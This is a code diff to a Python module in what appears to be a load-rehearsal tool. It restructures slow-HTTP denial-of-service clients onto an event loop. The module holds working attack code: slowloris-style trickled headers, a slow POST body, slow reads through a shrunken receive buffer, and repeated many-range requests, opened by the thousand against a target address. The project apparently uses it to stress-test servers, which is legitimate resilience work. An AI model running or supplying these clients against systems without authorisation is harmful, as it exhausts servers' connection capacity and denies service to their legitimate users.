@@ -4,20 +4,21 @@ https://github.com/shekyan/slowhttptest: slow headers (slowloris), slow bodies (
 header that asks for everything many times over.
 """
 
-import asyncio
 import socket
-import time
 from collections.abc import Callable
 from enum import Enum
 
+from firstbell.rehearsal.load.loop import Loop
 from firstbell.rehearsal.load.orders import AttackOrders
-from firstbell.rehearsal.load.tally import Tally
 
 STEP_S = 5.0
 """How long a slow client waits before its next byte."""
 
 OPENED_PER_S = 1_000
-READ_BYTES = 32
+CONNECTED_S = 1.0
+"""By when a connection is there; a slow client has the time."""
+
+READ_BYTES, RANGE_BYTES = 32, 65_536
 RECEIVE_BUFFER_BYTES = 1_024
 """What a slow reader's kernel takes at once; Linux doubles it."""
 
@@ -37,62 +38,116 @@ class Kind(Enum):
 
 
 class SlowClients:
-    """The slow connections of one attack; `connect` makes a socket that is not connected yet."""
+    """The slow connections of one attack; `make` gives a socket that is not connected, `count` hears what happens."""
 
-    def __init__(self, orders: AttackOrders, make: Callable[[], socket.socket], tally: Callable[[], Tally]) -> None:
+    def __init__(
+        self, loop: Loop, orders: AttackOrders, make: Callable[[], socket.SocketType], count: Callable[[str], None]
+    ) -> None:
+        self.loop = loop
+        self.make = make
+        self.count = count
+        self.target = orders.target.address
         self._orders = orders
-        self._make = make
-        self._tally = tally
+        self._clients = [SlowClient(self) for _ in range(orders.slow_connections)]
         host = orders.slow_host
         get = f"GET /sign-in HTTP/1.1\r\nhost: {host}\r\n"
         ranges = ",".join(f"{first}-" for first in range(RANGES))
-        self._begins = {
+        begins = {
             Kind.HEADERS: get,
             Kind.BODY: f"POST /sign-in HTTP/1.1\r\nhost: {host}\r\n"
             "content-type: application/x-www-form-urlencoded\r\ncontent-length: 8192\r\n\r\n",
             Kind.READ: f"{get}\r\n" * PIPELINED,
             Kind.RANGE: f"GET {orders.slow_path} HTTP/1.1\r\nhost: {host}\r\nrange: bytes={ranges}\r\n\r\n",
         }
+        self.begins = {kind: begin.encode() for kind, begin in begins.items()}
 
-    async def hold(self, turn: int) -> None:
-        """Hold one connection, another when it is cut, until the attack ends."""
-        await asyncio.sleep(max(0.0, self._orders.slow_from_s - self._now()) + turn / OPENED_PER_S)
-        while (kind := self._kind()) is not None:
-            made = None
-            try:
-                made = self._make()
-                await self._be_slow(kind, made)
-            except OSError:
-                self._tally().attacks[f"{kind.value}: cut"] += 1
-            finally:
-                if made is not None:
-                    made.close()
-            await asyncio.sleep(STEP_S)
+    def begin(self) -> None:
+        """Open them one after the other when their time comes."""
+        for turn, client in enumerate(self._clients):
+            self.loop.at(self._orders.slow_from_s + turn / OPENED_PER_S, client.begin)
 
-    async def _be_slow(self, kind: Kind, made: socket.socket) -> None:
-        loop = asyncio.get_running_loop()
-        if kind is Kind.READ:
-            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVE_BUFFER_BYTES)
-        await loop.sock_connect(made, self._orders.target.address)
-        begin = self._begins[kind].encode()
-        await loop.sock_sendall(made, begin)
-        self._tally().attacks[kind.value] += 1
-        while self._kind() is kind:
-            await asyncio.sleep(STEP_S)
-            if kind is Kind.HEADERS:
-                await loop.sock_sendall(made, b"x-a: b\r\n")
-            elif kind is Kind.BODY:
-                await loop.sock_sendall(made, b"a")
-            elif not await loop.sock_recv(made, READ_BYTES if kind is Kind.READ else 65_536):
-                raise ConnectionResetError
-            elif kind is Kind.RANGE:
-                await loop.sock_sendall(made, begin)
+    def end(self) -> None:
+        """Close them all."""
+        for client in self._clients:
+            client.close()
 
-    def _kind(self) -> Kind | None:
+    def kind(self) -> Kind | None:
         """Which kind it is now, None when the attack is over."""
         begin_s, end_s = self._orders.slow_from_s, self._orders.seconds
-        share = (self._now() - begin_s) / max(1.0, end_s - begin_s)
+        share = (self.loop.now() - begin_s) / max(1.0, end_s - begin_s)
         return list(Kind)[min(len(Kind) - 1, max(0, int(share * len(Kind))))] if share < 1 else None
 
-    def _now(self) -> float:
-        return time.monotonic() - self._orders.begins_at
+
+class SlowClient:
+    """Holds one connection, another when it is cut, until the attack ends."""
+
+    __slots__ = ("_all", "_kind", "_socket")
+
+    def __init__(self, all_of_them: SlowClients) -> None:
+        self._all = all_of_them
+        self._kind: Kind | None = None
+        self._socket: socket.SocketType | None = None
+
+    def begin(self, due_s: float) -> None:
+        """Connect."""
+        self._kind = self._all.kind()
+        if self._kind is None:
+            return
+        try:
+            self._socket = self._all.make()
+            if self._kind is Kind.READ:
+                self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVE_BUFFER_BYTES)
+            self._socket.connect_ex(self._all.target)
+        except OSError:
+            self._be_cut()
+            return
+        self._all.loop.at(due_s + CONNECTED_S, self._say_hello)
+
+    def close(self) -> None:
+        """End the connection."""
+        if self._socket is not None:
+            self._socket.close()
+            self._socket = None
+
+    def _say_hello(self, due_s: float) -> None:
+        if self._socket is None or self._kind is None:
+            return
+        try:
+            self._socket.send(self._all.begins[self._kind])
+        except OSError:
+            self._be_cut()
+            return
+        self._all.count(self._kind.value)
+        self._all.loop.at(due_s + STEP_S, self._go_on)
+
+    def _go_on(self, due_s: float) -> None:
+        if self._kind is not self._all.kind():
+            self.close()
+            self._all.loop.at(due_s + STEP_S, self.begin)
+            return
+        try:
+            self._step()
+        except BlockingIOError:
+            pass  # nothing came, or nothing may be sent: a slow client waits
+        except OSError:
+            self._be_cut()
+            return
+        self._all.loop.at(due_s + STEP_S, self._go_on)
+
+    def _step(self) -> None:
+        assert self._socket is not None  # noqa: S101 - whoever is slow is connected
+        if self._kind is Kind.HEADERS:
+            self._socket.send(b"x-a: b\r\n")
+        elif self._kind is Kind.BODY:
+            self._socket.send(b"a")
+        elif not self._socket.recv(READ_BYTES if self._kind is Kind.READ else RANGE_BYTES):
+            raise ConnectionResetError
+        elif self._kind is Kind.RANGE:
+            self._socket.send(self._all.begins[Kind.RANGE])
+
+    def _be_cut(self) -> None:
+        """Another connection takes its place."""
+        self.close()
+        if self._kind is not None:
+            self._all.count(f"{self._kind.value}: cut")
+        self._all.loop.at(self._all.loop.now() + STEP_S, self.begin)
